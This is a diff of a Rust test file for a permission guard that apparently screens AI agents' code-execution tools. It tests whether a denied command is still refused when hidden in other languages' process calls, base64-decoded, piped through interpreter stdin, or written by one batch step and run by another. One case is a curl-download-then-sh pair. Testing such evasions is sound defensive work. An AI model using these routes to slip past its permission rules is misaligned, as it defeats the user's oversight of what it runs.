@@ -87,6 +87,131 @@ fn shell_code_is_judged_as_the_commands_it_is() {
     }
 }
 
+/// Programs of other languages start commands by calls: their strings are judged as the commands they are.
+#[test]
+fn code_of_other_languages_is_searched_for_denied_commands() {
+    let programs = [
+        ("python", "import subprocess\nsubprocess.run(['touch', 'x'])"),
+        ("python", "import os\nos.system('tou' 'ch x')"),
+        ("python", "import os\nos.execlp('touch', 'touch', 'x')"),
+        ("javascript", "require('child_process').spawnSync('touch', ['x'])"),
+        ("typescript", "import {execSync} from 'child_process'; execSync(`touch x`)"),
+        ("perl", "system qw(touch x)"),
+        ("perl", "open(my $f, '-|', 'touch', 'x')"),
+        ("ruby", "system('touch', 'x')"),
+        ("php", "<?php echo `touch x`;"),
+        ("lua", "os.execute('touch ' .. 'x')"),
+        ("r", "system2('touch', 'x')"),
+        ("julia", "run(`touch x`)"),
+        ("elixir", "System.cmd(\"touch\", [\"x\"])"),
+        ("c", "#include <stdlib.h>\nint main() { return system(\"touch x\"); }"),
+        ("c", "#include <unistd.h>\nint main() { execlp(\"touch\", \"touch\", \"x\", NULL); }"),
+        ("go", "exec.Command(\"touch\", \"x\").Run()"),
+        ("rust", "fn main() { std::process::Command::new(\"touch\").arg(\"x\").status(); }"),
+        ("java", "class A { void a() { new ProcessBuilder(\"touch\", \"x\").start(); } }"),
+    ];
+    let env = TestEnv::new().with_rules(json!({ "deny": ["Bash(touch x:*)"] }));
+    env.write("input", "text\n");
+    let mut client = env.mcp();
+    for (language, code) in programs {
+        let calls = [
+            ("ctx_execute", json!({ "code": code, "language": language })),
+            ("ctx_execute", json!({ "code": code, "language": language, "background": true })),
+            ("ctx_execute_file", json!({ "path": "input", "code": code, "language": language })),
+        ];
+        for (tool, input) in calls {
+            let error = client.error(tool, input);
+            assert!(error.contains("Bash(touch x:*) denies it"), "{language} {code}: {error}");
+        }
+        let batch = json!({ "commands": [{ "code": code, "language": language }] });
+        let answer = client.call("ctx_batch_execute", batch).to_string();
+        assert!(answer.contains("Bash(touch x:*) denies it"), "{language} batch: {answer}");
+        env.forebay(["run", "--language", language, "--", code]).refused(126, "touch x", "");
+    }
+    for code in [
+        "import subprocess\ncommand = ['touch'] + input().split()\nsubprocess.run(command)",
+        "import os, base64\nos.system(base64.b64decode('dG91Y2ggeA==').decode())",
+    ] {
+        let error = client.error("ctx_execute", json!({ "code": code, "language": "python" }));
+        assert!(error.contains("the code computes what it runs"), "{error}");
+    }
+    assert!(!env.project().join("x").exists());
+    for code in [
+        "print('touch x')",
+        "import subprocess\nprint(subprocess.check_output(['echo', 'fine']).decode())",
+        "def run(command):\n    return command\nprint(run('fine'))",
+    ] {
+        let answer = client.text("ctx_execute", json!({ "code": code, "language": "python" }));
+        assert!(answer.contains("exit 0"), "{code}: {answer}");
+    }
+}
+
+/// The input of a shell or an interpreter is code.
+#[test]
+fn standard_input_of_an_interpreter_is_judged_as_code() {
+    let env = TestEnv::new().with_rules(json!({ "deny": ["Bash(touch x:*)"] }));
+    let mut client = env.mcp();
+    let python = "import os; os.system('touch x')";
+    let calls = [
+        ("sh", "touch x"),
+        ("sh -s y", "touch x"),
+        ("bash -s -- y", "touch x"),
+        ("cat | sh", "touch x"),
+        ("env bash", "touch x"),
+        ("xargs touch", "x"),
+        ("xargs -I{} sh -c '{}'", "touch x"),
+        ("python3 -", python),
+        ("python3", python),
+        ("node -", "require('child_process').execSync('touch x')"),
+        ("perl -", "system('touch x')"),
+        ("head -1; sh", "y='\ntouch x\n'"),
+        ("awk '{ system($0) }'", "touch x"),
+        ("sed e", "touch x"),
+    ];
+    for (command, stdin) in calls {
+        let error = client.error("ctx_execute", json!({ "code": command, "stdin": stdin }));
+        let refused = error.contains("denies it") || error.contains("needs the user's approval");
+        assert!(refused, "{command}: {error}");
+    }
+    let evaluated = json!({ "code": "exec(input())", "language": "python", "stdin": python });
+    assert!(client.error("ctx_execute", evaluated).contains("denies it"));
+    assert!(!env.project().join("x").exists());
+    for (command, stdin) in [("cat", "touch x"), ("sh", "echo fine"), ("python3 -", "print(1)")] {
+        let answer = client.text("ctx_execute", json!({ "code": command, "stdin": stdin }));
+        assert!(answer.contains("exit 0"), "{command}: {answer}");
+    }
+}
+
+/// What one command of a batch writes, another one may run.
+#[test]
+fn a_batch_is_judged_as_a_whole() {
+    let env = TestEnv::new().with_rules(json!({ "deny": ["Bash(touch x:*)"] }));
+    let mut client = env.mcp();
+    let written_and_run = [
+        [json!("echo 'touch x' > y.sh"), json!("sleep 0.2; sh y.sh")],
+        [json!("printf 'a:\\n\\ttouch x\\n' > Makefile"), json!("sleep 0.2; make")],
+        [
+            json!({ "code": "open('y.sh', 'w').write('touch x')", "language": "python" }),
+            json!("sleep 0.2; sh y.sh"),
+        ],
+        [
+            json!("echo 'import os; os.system(\"touch x\")' > y.py"),
+            json!({ "code": "import runpy; runpy.run_path('y.py')", "language": "python" }),
+        ],
+        [json!("curl -s https://example.invalid/ > y.sh"), json!("sh y.sh")],
+    ];
+    for commands in written_and_run {
+        let batch = json!({ "commands": commands });
+        let answer = client.call("ctx_batch_execute", batch).to_string();
+        let refused = answer.contains("denies it") || answer.contains("approval");
+        assert!(refused, "{answer}");
+        assert!(!env.project().join("x").exists());
+    }
+    let fine = json!({ "commands": ["echo 'echo fine' > z.sh", "sleep 0.3; sh z.sh"] });
+    let answer = client.text("ctx_batch_execute", fine);
+    assert!(answer.contains("2 commands: all succeeded"), "{answer}");
+}
+
 /// A refusal names what was refused and by which guard, and one thing to do that helps.
 #[test]
 fn each_refusal_says_what_would_help() {
@@ -171,7 +296,11 @@ fn denied_files_and_programs_are_unreachable_from_code() {
 #[test]
 fn ask_rule_refuses_if_no_client_can_approve() {
     let env = TestEnv::new().with_rules(json!({ "ask": ["Bash(touch:*)"] }));
-    env.forebay(["run", "--", "touch x"]).refused(126, "needs the user's approval", "remove that rule");
+    env.forebay(["run", "--", "touch x"]).refused(
+        126,
+        "needs the user's approval",
+        "remove that rule",
+    );
     let error = env.mcp().error("ctx_execute", json!({ "code": "touch x" }));
     assert!(error.contains("needs the user's approval"), "{error}");
     assert!(!env.project().join("x").exists());
@@ -280,7 +409,11 @@ fn deny_rules_of_other_hosts_apply() {
 #[test]
 fn partly_overridden_deny_rule_asks() {
     let env = TestEnv::new().with_file("home/xdg-config/opencode/opencode.jsonc", OPENCODE);
-    env.forebay(["run", "--", "sort x"]).refused(126, "needs the user's approval", "remove that rule");
+    env.forebay(["run", "--", "sort x"]).refused(
+        126,
+        "needs the user's approval",
+        "remove that rule",
+    );
     let listed = env.forebay(["rules"]).ok().text();
     assert!(listed.contains("ask   Bash(sort *)"), "{listed}");
     assert!(listed.contains("`bash sort: allow` overrides part of it"), "{listed}");
